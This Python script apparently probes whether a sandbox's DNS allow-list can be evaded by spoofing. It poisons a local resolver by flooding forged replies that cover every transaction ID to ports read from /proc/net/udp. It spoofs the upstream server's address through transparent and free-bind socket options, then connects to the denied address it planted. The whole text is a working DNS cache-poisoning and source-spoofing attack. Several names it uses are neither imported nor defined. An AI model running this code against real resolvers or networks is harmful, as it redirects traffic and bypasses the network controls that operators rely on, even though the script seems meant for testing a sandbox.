"""Answers in the upstream's place: asks for an allowed name that no name server answers, and sends the answer itself, with every number
that the question can have, to the port that /proc shows. The address in it is a denied one, which the resolver would open.
"""

import select
import time

ZONE, FORGED = sys.argv[1:]
UPSTREAM, OWN = "10.0.2.3", own_address()


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)


def answers(asked):
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(FORGED)
    for number in range(0x10000):
        yield struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0) + asked[12:] + record


def open_ports():
    """Of all the UDP sockets in this network."""
    with open("/proc/net/udp") as file:
        return {int(line.split()[1].split(":")[1], 16) for line in list(file)[1:]}


def forge(label, address, option=(), ancillary=()):
    """Sends from port 53 of ADDRESS."""
    asked = question(f"{label}.{ZONE}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        asker.connect(("127.0.0.1", 53))
        if option:
            sender.setsockopt(*option, 1)
        sender.bind((address, 53))
        before = open_ports()
        asker.send(asked)
        deadline = time.monotonic() + 0.5
        # A question that is under way already keeps its port.
        while not (ports := open_ports() - before) and time.monotonic() < deadline:
            pass
        for port in ports or before - {53, asker.getsockname()[1]}:
            for answer in answers(asked):
                sender.sendmsg([answer], ancillary, 0, (OWN, port))
                if select.select([asker], [], [], 0)[0]:
                    return "answered"
        asker.settimeout(1)
        return "answered" if asker.recv(512)[7] else "empty"


SOURCE = struct.pack("=I4s4s", 0, socket.inet_aton(UPSTREAM), bytes(4))
step("from loopback", lambda: forge("a", "127.0.0.9"))
step("from its own address", lambda: forge("b", OWN))
step("from the upstream's address", lambda: forge("c", UPSTREAM, (socket.SOL_IP, 15)))
step("from the upstream's address, by packet", lambda: forge("d", "127.0.0.8", (), [(socket.SOL_IP, 8, SOURCE)]))
step("from the upstream's address, transparently", lambda: forge("e", UPSTREAM, (socket.SOL_IP, 19)))
step("the address that it names", lambda: tcp(FORGED, 80))
